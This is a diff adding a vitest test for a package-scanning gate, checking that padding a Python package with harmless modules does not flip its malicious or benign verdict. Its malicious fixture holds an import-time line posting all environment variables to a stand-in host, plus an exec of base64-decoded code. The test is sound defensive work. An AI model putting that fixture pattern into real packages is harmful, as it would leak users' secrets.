@@ -1,0 +1,54 @@
+// A property of the whole gate (extractor, bundled model, decide()): padding a package with harmless modules
+// must not turn a malicious verdict benign, nor a benign one malicious.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { extractFeatures, initFeatures } from '../../src/features/index.js';
+import { bundledModel } from '../../src/model/bundled.js';
+import { scoreVector } from '../../src/model/index.js';
+import { decide } from '../../src/policy.js';
+import { viewOf } from './view.js';
+
+beforeAll(() => initFeatures());
+
+const META = 'Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\nSummary: tidy tables\n';
+const HARMLESS = (i: number) =>
+  `"""Helpers ${i}."""\n\n\ndef width_${i}(text: str) -> int:\n    return max((len(line) for line in text.splitlines()), default=0)\n\n\nclass Table${i}:\n    def __init__(self, rows):\n        self.rows = list(rows)\n\n    def render(self) -> str:\n        return "\\n".join(" | ".join(map(str, r)) for r in self.rows)\n`;
+const pad = (files: Record<string, string>, n: number) => {
+  const out = { ...files };
+  for (let i = 0; i < n; i++) out[`tidy-1.0/tidy/util${i}.py`] = HARMLESS(i);
+  return out;
+};
+const verdict = (files: Record<string, string>) => {
+  const analysis = extractFeatures(viewOf(files));
+  const model = bundledModel();
+  const score = scoreVector(model, analysis.features, analysis.tokens).score;
+  return decide({
+    ref: { name: 'tidy', version: '1.0' },
+    score,
+    thresholds: model.thresholds,
+    evidence: analysis.evidence,
+    signals: [],
+    allow: [],
+    now: new Date('2026-01-01T00:00:00Z'),
+  }).raw;
+};
+
+const MALICIOUS = {
+  'tidy-1.0/PKG-INFO': META,
+  'tidy-1.0/tidy/__init__.py':
+    'import os, requests\nrequests.post("https://x.example/c", json=dict(os.environ))\nexec(__import__("base64").b64decode("cHJpbnQoMSk="))\n',
+};
+const BENIGN = {
+  'tidy-1.0/PKG-INFO': META,
+  'tidy-1.0/tidy/__init__.py': 'from .core import render\n__all__ = ["render"]\n',
+  'tidy-1.0/tidy/core.py':
+    'def render(rows):\n    return "\\n".join(" | ".join(map(str, r)) for r in rows)\n',
+};
+
+describe('padding with harmless modules', () => {
+  it.each([0, 12, 60])('keeps a malicious package malicious (%i modules added)', (n) => {
+    expect(verdict(pad(MALICIOUS, n))).toBe('malicious');
+  });
+  it.each([0, 12, 60])('keeps a benign package out of malicious (%i modules added)', (n) => {
+    expect(verdict(pad(BENIGN, n))).not.toBe('malicious');
+  });
+});
